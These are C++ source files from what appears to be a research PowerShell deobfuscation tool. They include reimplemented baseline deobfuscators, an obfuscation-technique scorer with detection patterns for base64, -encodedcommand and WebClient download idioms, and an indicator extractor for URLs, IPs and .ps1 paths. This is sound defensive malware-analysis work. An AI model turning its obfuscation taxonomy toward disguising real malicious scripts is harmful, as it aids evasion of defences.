    // Their C# front end re-emits pieces through the real AST, which
    // normalizes backticks away (Table II: Ticking is their one L1 row).
    std::string input_storage = strip_ticks(raw_input);
    const std::string_view input = input_storage;

    auto root = ps::try_parse(input);
    if (root == nullptr) return result;  // needs a valid AST to start
    result.script = input_storage;

    // Collect statement-position PipelineAst subtrees (their tool only
    // handles pipeline roots) and directly execute each without context.
    std::vector<std::pair<std::string, std::string>> replacements;
    double cost = 0;

    root->post_order([&](const ps::Ast& node) {
      if (node.kind() != ps::NodeKind::Pipeline) return;
      const ps::Ast* parent = node.parent();
      const auto& pipe = static_cast<const ps::PipelineAst&>(node);
      bool has_command = false;
      for (const auto& el : pipe.elements) {
        if (el->kind() == ps::NodeKind::Command) has_command = true;
      }
      const bool statement_position =
          parent == nullptr || parent->kind() == ps::NodeKind::NamedBlock ||
          parent->kind() == ps::NodeKind::StatementBlock ||
          parent->kind() == ps::NodeKind::ScriptBlock ||
          parent->kind() == ps::NodeKind::ParenExpression ||
          parent->kind() == ps::NodeKind::AssignmentStatement;
      if (!statement_position) return;
      // Their traversal misses *expression* pieces placed in assignments
      // (the paper's "last two positions"), but command pipelines such as
      // `New-Object Net.WebClient` are replaced wherever they sit — which
      // is what produces the wrong `System.Net.WebClient` substitutions.
      if (!has_command) {
        const ps::Ast* up = parent;
        while (up != nullptr) {
          if (up->kind() == ps::NodeKind::AssignmentStatement) return;
          up = up->parent();
        }
      }
      const std::string piece(node.text_in(input));
      if (piece.size() < 4) return;
      // Already a bare literal? Nothing to do.
      if (piece.front() == '\'' && piece.back() == '\'') return;

      ps::InterpreterOptions opts;
      opts.max_steps = 300000;
      // No context: variables silently resolve to $null, which is exactly
      // how direct execution goes wrong on variable-bearing pieces (paper
      // section V-A).
      opts.strict_variables = false;
      // No blocklist: unrelated commands execute (anti-debug, sleeps, ...).
      SandboxAccount account;
      opts.recorder = &account;
      ps::Interpreter interp(opts);
      try {
        const ps::Value v = interp.evaluate_script(piece);
        cost += account.seconds;
        std::string replacement;
        if (v.is_string()) {
          replacement = "'" + v.get_string() + "'";  // naive quoting
        } else if (v.is_int()) {
          replacement = std::to_string(v.get_int());
        } else if (v.is_object()) {
          // The semantically wrong replacement the paper demonstrates:
          // `New-Object Net.WebClient` -> `System.Net.WebClient`.
          replacement = v.get_object()->type_name();
        } else if (v.is_bool()) {
          replacement = v.get_bool() ? "True" : "False";
        } else {
          return;
        }
        if (replacement != piece) replacements.emplace_back(piece, replacement);
      } catch (const std::exception&) {
        cost += account.seconds;
      }
    });

    // Context-free replacement: every occurrence of the same piece text is
    // replaced at once (the paper's semantic-consistency critique).
    std::string script(input);
    for (const auto& [from, to] : replacements) {
      std::size_t pos = 0;
      while ((pos = script.find(from, pos)) != std::string::npos) {
        script.replace(pos, from.size(), to);
        pos += to.size();
      }
    }
    result.script = std::move(script);
    result.simulated_seconds = cost;
    return result;
  }

 private:
  /// Token-precise backtick removal (the AST re-emission effect).
  static std::string strip_ticks(std::string_view script) {
    bool ok = true;
    const ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
    if (!ok) return std::string(script);
    std::string out(script);
    for (auto it = tokens.rbegin(); it != tokens.rend(); ++it) {
      if (it->type == ps::TokenType::String ||
          it->type == ps::TokenType::LineContinuation) {
        continue;
      }
      if (it->text.find('`') == std::string::npos) continue;
      std::string fixed = it->text;
      fixed.erase(std::remove(fixed.begin(), fixed.end(), '`'), fixed.end());
      out.replace(it->start, it->length, fixed);
    }
    return out;
  }

  /// Minimal recorder that only accounts simulated time.
  class SandboxAccount final : public ps::EffectRecorder {
   public:
    double seconds = 0;
    void on_network(std::string_view, std::string_view) override { seconds += 0.5; }
    void on_process(std::string_view) override { seconds += 0.4; }
    void on_file(std::string_view, std::string_view) override {}
    void on_sleep(double s) override { seconds += s; }
    void on_host_output(std::string_view) override {}
    std::string download_content(std::string_view) override { return ""; }
  };
};

// ======================================================= Invoke-Deobf (us)

class Ours final : public DeobfuscationTool {
 public:
  std::string name() const override { return "Invoke-Deobfuscation"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.script = deobf_.deobfuscate(input);
    result.simulated_seconds = 0;  // the blocklist forbids costly commands
    return result;
  }

 private:
  InvokeDeobfuscator deobf_;
};

}  // namespace

std::unique_ptr<DeobfuscationTool> make_psdecode() {
  return std::make_unique<PSDecode>();
}
std::unique_ptr<DeobfuscationTool> make_powerdrive() {
  return std::make_unique<PowerDrive>();
}
std::unique_ptr<DeobfuscationTool> make_powerdecode() {
  return std::make_unique<PowerDecode>();
}
std::unique_ptr<DeobfuscationTool> make_li_etal() {
  return std::make_unique<LiEtAl>();
}
std::unique_ptr<DeobfuscationTool> make_invoke_deobfuscation() {
  return std::make_unique<Ours>();
}

std::vector<std::unique_ptr<DeobfuscationTool>> make_all_tools() {
  std::vector<std::unique_ptr<DeobfuscationTool>> tools;
  tools.push_back(make_psdecode());
  tools.push_back(make_powerdrive());
  tools.push_back(make_powerdecode());
  tools.push_back(make_li_etal());
  tools.push_back(make_invoke_deobfuscation());
  return tools;
}

}  // namespace ideobf
