#pragma once

/// \file baseline.h
/// The comparison tools of the paper's evaluation, reimplemented to their
/// published mechanisms (DESIGN.md substitution table):
///   - PSDecode     — regex rules + Invoke-Expression overriding, literal
///                    layers only;
///   - PowerDrive   — regex rules (ticking, concat), multiline-to-one-line
///                    transform that can break syntax, literal iex override;
///   - PowerDecode  — regex rules (concat, replace) + overriding function
///                    with an expression evaluator for variable-free layers
///                    (their "unary syntax tree model");
///   - Li et al.    — direct execution of PipelineAst subtrees without
///                    variable context, global text replacement, objects
///                    replaced by their type names (classifier removed, as
///                    in the paper's setup).
/// Each tool reports the simulated seconds its executions consumed, which
/// drives the Fig 6 efficiency comparison.

#include <memory>
#include <string>
#include <string_view>
#include <vector>

namespace ideobf {

struct BaselineResult {
  std::string script;
  /// Simulated cost of commands the tool executed while deobfuscating
  /// (sleeps, network I/O); our tool's blocklist keeps this at zero.
  double simulated_seconds = 0;
};

/// Common interface over all five tools.
class DeobfuscationTool {
 public:
  virtual ~DeobfuscationTool() = default;
  [[nodiscard]] virtual std::string name() const = 0;
  [[nodiscard]] virtual BaselineResult run(std::string_view script) const = 0;
};

std::unique_ptr<DeobfuscationTool> make_psdecode();
std::unique_ptr<DeobfuscationTool> make_powerdrive();
std::unique_ptr<DeobfuscationTool> make_powerdecode();
std::unique_ptr<DeobfuscationTool> make_li_etal();
/// Our tool behind the same interface.
std::unique_ptr<DeobfuscationTool> make_invoke_deobfuscation();

/// All five, in the paper's comparison order (ours last).
std::vector<std::unique_ptr<DeobfuscationTool>> make_all_tools();

}  // namespace ideobf
