#include "analysis/keyinfo.h"

#include <algorithm>
#include <regex>

#include "pslang/alias_table.h"

namespace ideobf {

namespace {

bool valid_ip(const std::string& s) {
  int part = 0, parts = 0, digits = 0;
  for (char c : s) {
    if (c == '.') {
      if (digits == 0 || part > 255) return false;
      ++parts;
      part = 0;
      digits = 0;
      continue;
    }
    part = part * 10 + (c - '0');
    ++digits;
    if (digits > 3) return false;
  }
  return parts == 3 && digits > 0 && part <= 255;
}

}  // namespace

KeyInfo extract_key_info(std::string_view script) {
  KeyInfo info;
  const std::string text(script);

  static const std::regex kUrl(R"((https?|ftp)://[^\s'"()<>|;,]+)",
                               std::regex::icase);
  for (auto it = std::sregex_iterator(text.begin(), text.end(), kUrl);
       it != std::sregex_iterator(); ++it) {
    std::string url = it->str();
    while (!url.empty() && (url.back() == '.' || url.back() == '\'')) url.pop_back();
    info.urls.insert(ps::to_lower(url));
  }

  static const std::regex kIp(R"((\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}))");
  for (auto it = std::sregex_iterator(text.begin(), text.end(), kIp);
       it != std::sregex_iterator(); ++it) {
    const std::string ip = it->str();
    if (valid_ip(ip)) info.ips.insert(ip);
  }

  static const std::regex kPs1(R"(([\w:~.\\/-]+\.ps1)\b)", std::regex::icase);
  for (auto it = std::sregex_iterator(text.begin(), text.end(), kPs1);
       it != std::sregex_iterator(); ++it) {
    info.ps1_files.insert(ps::to_lower(it->str()));
  }

  static const std::regex kPwsh(R"(\bpowershell(\.exe)?\b)", std::regex::icase);
  info.powershell_commands = static_cast<int>(std::distance(
      std::sregex_iterator(text.begin(), text.end(), kPwsh),
      std::sregex_iterator()));

  return info;
}

int KeyInfo::recovered_in(const KeyInfo& other) const {
  int n = 0;
  for (const auto& u : urls) {
    if (other.urls.count(u)) ++n;
  }
  for (const auto& i : ips) {
    if (other.ips.count(i)) ++n;
  }
  for (const auto& p : ps1_files) {
    if (other.ps1_files.count(p)) ++n;
  }
  n += std::min(powershell_commands, other.powershell_commands);
  return n;
}

}  // namespace ideobf
