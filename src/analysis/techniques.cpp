#include "analysis/techniques.h"

namespace ideobf {

int technique_level(Technique t) {
  switch (t) {
    case Technique::Ticking:
    case Technique::Whitespacing:
    case Technique::RandomCase:
    case Technique::RandomName:
    case Technique::Alias:
      return 1;
    case Technique::Concat:
    case Technique::Reorder:
    case Technique::Replace:
    case Technique::Reverse:
      return 2;
    default:
      return 3;
  }
}

std::string_view to_string(Technique t) {
  switch (t) {
    case Technique::Ticking: return "Ticking";
    case Technique::Whitespacing: return "Whitespacing";
    case Technique::RandomCase: return "RandomCase";
    case Technique::RandomName: return "RandomName";
    case Technique::Alias: return "Alias";
    case Technique::Concat: return "Concat";
    case Technique::Reorder: return "Reorder";
    case Technique::Replace: return "Replace";
    case Technique::Reverse: return "Reverse";
    case Technique::AsciiEncoding: return "AsciiEncoding";
    case Technique::HexEncoding: return "HexEncoding";
    case Technique::OctalEncoding: return "OctalEncoding";
    case Technique::BinaryEncoding: return "BinaryEncoding";
    case Technique::Base64Encoding: return "Base64Encoding";
    case Technique::WhitespaceEncoding: return "WhitespaceEncoding";
    case Technique::SpecialCharEncoding: return "SpecialCharEncoding";
    case Technique::Bxor: return "Bxor";
    case Technique::SecureString: return "SecureString";
    case Technique::Compress: return "Compress";
  }
  return "?";
}

const std::vector<Technique>& all_techniques() {
  static const std::vector<Technique> all = {
      Technique::Ticking,        Technique::Whitespacing,
      Technique::RandomCase,     Technique::RandomName,
      Technique::Alias,          Technique::Concat,
      Technique::Reorder,        Technique::Replace,
      Technique::Reverse,        Technique::AsciiEncoding,
      Technique::HexEncoding,    Technique::OctalEncoding,
      Technique::BinaryEncoding, Technique::Base64Encoding,
      Technique::WhitespaceEncoding, Technique::SpecialCharEncoding,
      Technique::Bxor,           Technique::SecureString,
      Technique::Compress,
  };
  return all;
}

}  // namespace ideobf
