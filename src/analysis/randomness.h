#pragma once

/// \file randomness.h
/// The statistical randomness test of paper section III-C: General American
/// English has ~37.4% vowels among letters (Hayden 1950); identifier sets
/// outside [32%, 42%], or with fewer than 10% letters, are considered
/// randomly generated.

#include <string>
#include <string_view>
#include <vector>

namespace ideobf {

struct NameStatistics {
  std::size_t total_chars = 0;
  std::size_t letters = 0;
  std::size_t vowels = 0;

  [[nodiscard]] double letter_ratio() const {
    return total_chars == 0 ? 0.0 : static_cast<double>(letters) /
                                        static_cast<double>(total_chars);
  }
  [[nodiscard]] double vowel_ratio() const {
    return letters == 0 ? 0.0 : static_cast<double>(vowels) /
                                    static_cast<double>(letters);
  }
};

/// Character statistics of a string (letters counted ASCII-only).
NameStatistics name_statistics(std::string_view s);

/// The paper's joint randomness decision over the concatenation of all
/// unique identifier names in a script.
bool names_look_random(const std::vector<std::string>& names);

/// Single-string variant used by the obfuscation scorer.
bool looks_random(std::string_view s);

/// True when a word's casing looks randomized (mixed case that is neither
/// all-lower, all-upper, nor Pascal-style per `-`/`.` separated segment).
bool has_random_case(std::string_view word);

}  // namespace ideobf
