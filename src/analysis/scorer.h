#pragma once

/// \file scorer.h
/// Quantification of obfuscation (paper section IV-B2): detect every known
/// technique of Table II via regular expressions, tokens and the AST, score
/// each detected *type* once at its level (L1=1, L2=2, L3=3), and sum.

#include <set>
#include <string>
#include <string_view>

#include "analysis/techniques.h"

namespace ideobf {

struct ObfuscationFindings {
  std::set<Technique> techniques;

  [[nodiscard]] bool has(Technique t) const { return techniques.count(t) > 0; }

  /// Sum of technique levels, each detected type counted once.
  [[nodiscard]] int score() const {
    int s = 0;
    for (Technique t : techniques) s += technique_level(t);
    return s;
  }

  /// Number of detected techniques at the given level.
  [[nodiscard]] int count_at_level(int level) const {
    int n = 0;
    for (Technique t : techniques) {
      if (technique_level(t) == level) ++n;
    }
    return n;
  }
};

/// Runs all detectors over the script.
ObfuscationFindings detect_obfuscation(std::string_view script);

/// Convenience: detect_obfuscation(script).score().
int obfuscation_score(std::string_view script);

}  // namespace ideobf
