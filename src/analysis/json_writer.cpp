#include "analysis/json_writer.h"

#include <charconv>
#include <cstdio>

namespace ideobf {

namespace {

/// Quote `s` straight into `out` without a temporary: clean runs are bulk
/// appended, escapes spliced between them. Hot — every JSON key and string
/// value in every serve reply goes through here.
void append_quoted(std::string& out, std::string_view s) {
  out += '"';
  std::size_t clean = 0;  // start of the pending run of unescaped bytes
  for (std::size_t i = 0; i < s.size(); ++i) {
    const unsigned char c = static_cast<unsigned char>(s[i]);
    const char* esc = nullptr;
    char ubuf[8];
    switch (c) {
      case '"': esc = "\\\""; break;
      case '\\': esc = "\\\\"; break;
      case '\n': esc = "\\n"; break;
      case '\r': esc = "\\r"; break;
      case '\t': esc = "\\t"; break;
      case '\b': esc = "\\b"; break;
      case '\f': esc = "\\f"; break;
      default:
        if (c < 0x20) {
          std::snprintf(ubuf, sizeof(ubuf), "\\u%04x", c);
          esc = ubuf;
        }
    }
    if (esc != nullptr) {
      out.append(s, clean, i - clean);
      out += esc;
      clean = i + 1;
    }
  }
  out.append(s, clean, s.size() - clean);
  out += '"';
}

}  // namespace

std::string json_quote(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 2);
  append_quoted(out, s);
  return out;
}

void JsonWriter::comma() {
  if (pending_key_) {
    pending_key_ = false;
    return;  // value belongs to the written key; no comma
  }
  if (!state_.empty() && state_.back() == '1') out_ += ',';
  if (!state_.empty()) state_.back() = '1';
}

JsonWriter& JsonWriter::begin_object() {
  comma();
  out_ += '{';
  state_.push_back('0');
  return *this;
}

JsonWriter& JsonWriter::end_object() {
  out_ += '}';
  if (!state_.empty()) state_.pop_back();
  return *this;
}

JsonWriter& JsonWriter::begin_array(std::string_view k) {
  if (!k.empty()) key(k);
  comma();
  out_ += '[';
  state_.push_back('0');
  return *this;
}

JsonWriter& JsonWriter::end_array() {
  out_ += ']';
  if (!state_.empty()) state_.pop_back();
  return *this;
}

JsonWriter& JsonWriter::key(std::string_view name) {
  comma();
  append_quoted(out_, name);
  out_ += ':';
  pending_key_ = true;
  return *this;
}

JsonWriter& JsonWriter::value(std::string_view s) {
  comma();
  append_quoted(out_, s);
  return *this;
}

JsonWriter& JsonWriter::value(std::int64_t n) {
  comma();
  char buf[24];
  const auto r = std::to_chars(buf, buf + sizeof(buf), n);
  out_.append(buf, r.ptr);
  return *this;
}

JsonWriter& JsonWriter::value(double d) {
  comma();
  // Same digits snprintf "%.6g" would produce, without the locale machinery
  // — double fields dominate traced serve replies (per-phase span times).
  char buf[32];
  const auto r =
      std::to_chars(buf, buf + sizeof(buf), d, std::chars_format::general, 6);
  out_.append(buf, r.ptr);
  return *this;
}

JsonWriter& JsonWriter::value(bool b) {
  comma();
  out_ += b ? "true" : "false";
  return *this;
}

}  // namespace ideobf
