#include "analysis/json_writer.h"

#include <cstdio>

namespace ideobf {

std::string json_quote(std::string_view s) {
  std::string out = "\"";
  for (unsigned char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      case '\b': out += "\\b"; break;
      case '\f': out += "\\f"; break;
      default:
        if (c < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(static_cast<char>(c));
        }
    }
  }
  out += "\"";
  return out;
}

void JsonWriter::comma() {
  if (pending_key_) {
    pending_key_ = false;
    return;  // value belongs to the written key; no comma
  }
  if (!state_.empty() && state_.back() == '1') out_ += ',';
  if (!state_.empty()) state_.back() = '1';
}

JsonWriter& JsonWriter::begin_object() {
  comma();
  out_ += '{';
  state_.push_back('0');
  return *this;
}

JsonWriter& JsonWriter::end_object() {
  out_ += '}';
  if (!state_.empty()) state_.pop_back();
  return *this;
}

JsonWriter& JsonWriter::begin_array(std::string_view k) {
  if (!k.empty()) key(k);
  comma();
  out_ += '[';
  state_.push_back('0');
  return *this;
}

JsonWriter& JsonWriter::end_array() {
  out_ += ']';
  if (!state_.empty()) state_.pop_back();
  return *this;
}

JsonWriter& JsonWriter::key(std::string_view name) {
  comma();
  out_ += json_quote(name);
  out_ += ':';
  pending_key_ = true;
  return *this;
}

JsonWriter& JsonWriter::value(std::string_view s) {
  comma();
  out_ += json_quote(s);
  return *this;
}

JsonWriter& JsonWriter::value(std::int64_t n) {
  comma();
  out_ += std::to_string(n);
  return *this;
}

JsonWriter& JsonWriter::value(double d) {
  comma();
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.6g", d);
  out_ += buf;
  return *this;
}

JsonWriter& JsonWriter::value(bool b) {
  comma();
  out_ += b ? "true" : "false";
  return *this;
}

}  // namespace ideobf
