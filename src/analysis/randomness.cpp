#include "analysis/randomness.h"

#include <cctype>

namespace ideobf {

NameStatistics name_statistics(std::string_view s) {
  NameStatistics st;
  st.total_chars = s.size();
  for (char c : s) {
    if (std::isalpha(static_cast<unsigned char>(c))) {
      st.letters++;
      const char l = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
      if (l == 'a' || l == 'e' || l == 'i' || l == 'o' || l == 'u') st.vowels++;
    }
  }
  return st;
}

bool looks_random(std::string_view s) {
  const NameStatistics st = name_statistics(s);
  if (st.total_chars == 0) return false;
  if (st.letter_ratio() < 0.10) return true;  // special-character names
  if (st.letters < 4) return false;           // too short to judge vowels
  const double v = st.vowel_ratio();
  return v < 0.32 || v > 0.42;
}

bool names_look_random(const std::vector<std::string>& names) {
  std::string joined;
  for (const auto& n : names) joined += n;
  return looks_random(joined);
}

bool has_random_case(std::string_view word) {
  bool any_upper = false, any_lower = false;
  for (char c : word) {
    if (std::isupper(static_cast<unsigned char>(c))) any_upper = true;
    if (std::islower(static_cast<unsigned char>(c))) any_lower = true;
  }
  if (!any_upper || !any_lower) return false;  // single-case is never random
  // Pascal/camel compounds ("DownloadString", "Net.WebClient") have a few
  // hump capitals; randomized case ("dOwNloAdStRing") has many mid-word
  // capitals. Count uppercase letters that do not start a segment.
  std::size_t letters = 0, mid_upper = 0;
  bool segment_start = true;
  for (char c : word) {
    if (c == '-' || c == '.' || c == '\\' || c == '/' || c == ':' || c == '_') {
      segment_start = true;
      continue;
    }
    if (std::isalpha(static_cast<unsigned char>(c))) {
      ++letters;
      if (!segment_start && std::isupper(static_cast<unsigned char>(c))) {
        ++mid_upper;
      }
      segment_start = false;
    }
  }
  if (letters == 0) return false;
  return static_cast<double>(mid_upper) / static_cast<double>(letters) > 0.2;
}

}  // namespace ideobf
