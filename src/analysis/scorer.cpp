#include "analysis/scorer.h"

#include <cctype>
#include <regex>
#include <vector>

#include "analysis/randomness.h"
#include "analysis/techniques.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "psinterp/encodings.h"

namespace ideobf {

using ps::QuoteKind;
using ps::Token;
using ps::TokenType;

namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  const std::string h = ps::to_lower(haystack);
  return h.find(ps::to_lower(needle)) != std::string::npos;
}

/// Longest run of whitespace inside a string literal.
std::size_t longest_ws_run(std::string_view s) {
  std::size_t best = 0, cur = 0;
  for (char c : s) {
    if (c == ' ' || c == '\t') {
      ++cur;
      best = std::max(best, cur);
    } else {
      cur = 0;
    }
  }
  return best;
}

std::size_t count_distinct_delims(std::string_view s) {
  std::set<char> delims;
  for (char c : s) {
    if (!std::isalnum(static_cast<unsigned char>(c)) && c != ' ' && c != ',' &&
        c != '.' && c != '\'' && c != '-') {
      delims.insert(c);
    }
  }
  return delims.size();
}

}  // namespace

ObfuscationFindings detect_obfuscation(std::string_view script) {
  ObfuscationFindings f;
  bool ok = true;
  const ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  const std::string text(script);

  // ----- token-driven detectors -----
  int split_ops = 0;
  bool has_bxor = false;
  std::vector<std::string> identifier_names;
  std::vector<std::string> long_strings;

  const Token* prev_significant = nullptr;
  bool expect_fn_name = false;
  for (const Token& t : tokens) {
    if (t.type == TokenType::Comment || t.type == TokenType::NewLine ||
        t.type == TokenType::LineContinuation) {
      continue;
    }

    // Ticking: backticks in non-string tokens.
    if (t.type != TokenType::String && t.text.find('`') != std::string::npos) {
      f.techniques.insert(Technique::Ticking);
    }

    // Random case on identifier-like tokens.
    if (t.type == TokenType::Command || t.type == TokenType::Keyword ||
        t.type == TokenType::Member || t.type == TokenType::Type ||
        (t.type == TokenType::Operator && t.text.size() > 2 && t.text[0] == '-')) {
      std::string word(t.text);
      word.erase(std::remove(word.begin(), word.end(), '`'), word.end());
      if (has_random_case(word)) f.techniques.insert(Technique::RandomCase);
    }

    // Alias use.
    if (t.type == TokenType::Command) {
      std::string name(t.content);
      if (ps::AliasTable::standard().resolve(name).has_value()) {
        f.techniques.insert(Technique::Alias);
      }
    }

    // Whitespacing: a gap of >= 3 spaces between tokens on one line.
    if (prev_significant != nullptr && prev_significant->line == t.line &&
        t.start >= prev_significant->end() + 3) {
      f.techniques.insert(Technique::Whitespacing);
    }

    // Identifier collection for the random-name statistic.
    if (expect_fn_name) {
      expect_fn_name = false;
      identifier_names.push_back(std::string(t.content));
    }
    if (t.type == TokenType::Keyword &&
        (t.content == "function" || t.content == "filter")) {
      expect_fn_name = true;
    }
    if (t.type == TokenType::Variable && t.content.find(':') == std::string::npos &&
        t.content.size() >= 4 && t.content != "true" && t.content != "false" &&
        t.content != "null") {
      identifier_names.push_back(std::string(t.content));
    }

    if (t.type == TokenType::Operator) {
      const std::string_view op = t.content;
      if (op == "-split" || op == "-csplit" || op == "-isplit") ++split_ops;
      if (op == "-bxor") has_bxor = true;
      if (op == "-replace" || op == "-creplace" || op == "-ireplace") {
        f.techniques.insert(Technique::Replace);
      }
    }
    if (t.type == TokenType::Member && ps::iequals(t.content, "replace")) {
      f.techniques.insert(Technique::Replace);
    }

    if (t.type == TokenType::String) {
      if (t.content.size() >= 16) long_strings.push_back(std::string(t.content));
      if (longest_ws_run(t.content) >= 16) {
        f.techniques.insert(Technique::WhitespaceEncoding);
      }
    }

    prev_significant = &t;
  }

  // Concat: adjacent string '+' string in the token stream, or the
  // [string]::Concat spelling.
  for (std::size_t i = 0; i + 2 < tokens.size(); ++i) {
    if (tokens[i].type == TokenType::String &&
        tokens[i + 1].type == TokenType::Operator && tokens[i + 1].content == "+" &&
        tokens[i + 2].type == TokenType::String) {
      f.techniques.insert(Technique::Concat);
      break;
    }
  }
  if (contains_ci(text, "[string]::concat") || contains_ci(text, "::concat(")) {
    f.techniques.insert(Technique::Concat);
  }

  // Reorder: "{N}{M}..." format string followed by -f.
  {
    static const std::regex re(R"(\{\d+\}\{\d+\})");
    for (std::size_t i = 0; i + 1 < tokens.size(); ++i) {
      if (tokens[i].type == TokenType::String &&
          std::regex_search(std::string(tokens[i].content), re)) {
        for (std::size_t j = i + 1; j < std::min(tokens.size(), i + 3); ++j) {
          if (tokens[j].type == TokenType::Operator && tokens[j].content == "-f") {
            f.techniques.insert(Technique::Reorder);
          }
        }
      }
    }
  }

  // Random names: the paper's joint statistic.
  if (!identifier_names.empty() && names_look_random(identifier_names)) {
    f.techniques.insert(Technique::RandomName);
  }

  // ----- text-driven detectors -----
  if (contains_ci(text, "[-1..") || contains_ci(text, "[ -1..") ||
      contains_ci(text, "righttoleft")) {
    f.techniques.insert(Technique::Reverse);
  }
  static const std::regex kRevRange(R"(\[\s*-\s*1\s*\.\.)");
  if (std::regex_search(text, kRevRange)) f.techniques.insert(Technique::Reverse);

  // Encodings via [Convert]::ToInt32(x, base) or [char]<num>.
  {
    static const std::regex kToInt(
        R"(toint(?:32|16)?\s*\(\s*[^,]*,\s*(\d+)\s*\))",
        std::regex::icase);
    auto begin = std::sregex_iterator(text.begin(), text.end(), kToInt);
    for (auto it = begin; it != std::sregex_iterator(); ++it) {
      const int base = std::atoi((*it)[1].str().c_str());
      if (base == 16) f.techniques.insert(Technique::HexEncoding);
      if (base == 8) f.techniques.insert(Technique::OctalEncoding);
      if (base == 2) f.techniques.insert(Technique::BinaryEncoding);
    }
  }
  {
    static const std::regex kCharNum(R"(\[char\]\s*\(?\s*\d)", std::regex::icase);
    static const std::regex kCharPipe(R"(\[char\]\s*\$_)", std::regex::icase);
    if (std::regex_search(text, kCharNum) || std::regex_search(text, kCharPipe)) {
      if (has_bxor) {
        f.techniques.insert(Technique::Bxor);
      } else {
        f.techniques.insert(Technique::AsciiEncoding);
      }
    }
  }
  if (has_bxor) f.techniques.insert(Technique::Bxor);

  // Base64: an API use or a plausible long base64 literal.
  if (contains_ci(text, "frombase64string") ||
      contains_ci(text, "-encodedcommand")) {
    f.techniques.insert(Technique::Base64Encoding);
  } else {
    static const std::regex kEncFlag(R"(-e[a-z]*\s+[A-Za-z0-9+/=]{16,})",
                                     std::regex::icase);
    if (contains_ci(text, "powershell") && std::regex_search(text, kEncFlag)) {
      f.techniques.insert(Technique::Base64Encoding);
    }
    for (const std::string& s : long_strings) {
      if (s.size() >= 24 && ps::looks_like_base64(s)) {
        f.techniques.insert(Technique::Base64Encoding);
        break;
      }
    }
  }

  // Special-character encoding: a long low-letter-density literal with
  // several distinct delimiters feeding a -split chain.
  if (split_ops >= 2) {
    for (const std::string& s : long_strings) {
      if (s.size() >= 20 && name_statistics(s).letter_ratio() < 0.10 &&
          count_distinct_delims(s) >= 2) {
        f.techniques.insert(Technique::SpecialCharEncoding);
        break;
      }
    }
  }

  if (contains_ci(text, "securestring")) {
    f.techniques.insert(Technique::SecureString);
  }
  if (contains_ci(text, "deflatestream") || contains_ci(text, "gzipstream")) {
    f.techniques.insert(Technique::Compress);
  }

  (void)ok;
  return f;
}

int obfuscation_score(std::string_view script) {
  return detect_obfuscation(script).score();
}

}  // namespace ideobf
