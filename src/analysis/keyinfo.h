#pragma once

/// \file keyinfo.h
/// Key-information extraction (paper section IV-C2): the four indicator
/// types compared across tools in Fig 5 — .ps1 paths, `powershell` command
/// invocations, URLs and IPs.

#include <set>
#include <string>
#include <string_view>

namespace ideobf {

struct KeyInfo {
  std::set<std::string> urls;
  std::set<std::string> ips;
  std::set<std::string> ps1_files;
  int powershell_commands = 0;

  [[nodiscard]] int total() const {
    return static_cast<int>(urls.size() + ips.size() + ps1_files.size()) +
           powershell_commands;
  }

  /// Items of `this` also present in `other` (per-category, capped).
  [[nodiscard]] int recovered_in(const KeyInfo& other) const;
};

/// Extracts the four key-information types from script text.
KeyInfo extract_key_info(std::string_view script);

}  // namespace ideobf
