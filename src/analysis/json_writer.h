#pragma once

/// \file json_writer.h
/// A minimal dependency-free JSON emitter for the CLI's machine-readable
/// output (`ideobf iocs --json`, ...). Covers objects, arrays, strings,
/// numbers and booleans with correct escaping — not a parser.

#include <cstdint>
#include <string>
#include <string_view>

namespace ideobf {

/// Escapes a string for embedding in JSON (quotes included in the result).
std::string json_quote(std::string_view s);

/// Incremental writer with automatic comma placement.
class JsonWriter {
 public:
  JsonWriter& begin_object();
  JsonWriter& end_object();
  JsonWriter& begin_array(std::string_view key = {});
  JsonWriter& end_array();

  JsonWriter& key(std::string_view name);
  JsonWriter& value(std::string_view s);
  JsonWriter& value(const char* s) { return value(std::string_view(s)); }
  JsonWriter& value(std::int64_t n);
  JsonWriter& value(int n) { return value(static_cast<std::int64_t>(n)); }
  JsonWriter& value(double d);
  JsonWriter& value(bool b);

  /// key + value in one call.
  template <typename T>
  JsonWriter& field(std::string_view name, T&& v) {
    key(name);
    return value(std::forward<T>(v));
  }

  [[nodiscard]] const std::string& str() const { return out_; }

 private:
  void comma();
  std::string out_;
  /// Nesting stack: true = a value has already been written at this level.
  std::string state_;
  bool pending_key_ = false;
};

}  // namespace ideobf
