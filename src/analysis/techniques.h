#pragma once

/// \file techniques.h
/// The obfuscation technique taxonomy of the paper's Table II, shared by
/// the obfuscator (which applies techniques) and the scorer (which detects
/// them). Levels follow section II-B; the per-type score contribution
/// equals the level (section IV-B2).

#include <string_view>
#include <vector>

namespace ideobf {

enum class Technique {
  // L1 — textual / visual only
  Ticking,
  Whitespacing,
  RandomCase,
  RandomName,
  Alias,
  // L2 — string-related
  Concat,
  Reorder,
  Replace,
  Reverse,
  // L3 — encodings and stronger transforms
  AsciiEncoding,
  HexEncoding,
  OctalEncoding,
  BinaryEncoding,
  Base64Encoding,
  WhitespaceEncoding,
  SpecialCharEncoding,
  Bxor,
  SecureString,
  Compress,
};

/// The paper's obfuscation level of a technique (1, 2 or 3).
int technique_level(Technique t);

std::string_view to_string(Technique t);

/// All techniques in Table II order.
const std::vector<Technique>& all_techniques();

}  // namespace ideobf
