#include "telemetry/telemetry.h"

#include <chrono>

#include "telemetry/chrome_trace.h"

namespace ideobf::telemetry {

std::string_view phase_name(Phase phase) {
  switch (phase) {
    case Phase::Lex: return "lex";
    case Phase::Parse: return "parse";
    case Phase::TokenPass: return "token-pass";
    case Phase::Recovery: return "recovery";
    case Phase::VariableTrace: return "variable-trace";
    case Phase::PieceExecution: return "piece-execution";
    case Phase::MultilayerDecode: return "multilayer-decode";
    case Phase::Rename: return "rename";
    case Phase::Reformat: return "reformat";
    case Phase::SandboxRun: return "sandbox-run";
    case Phase::Pipeline: return "pipeline";
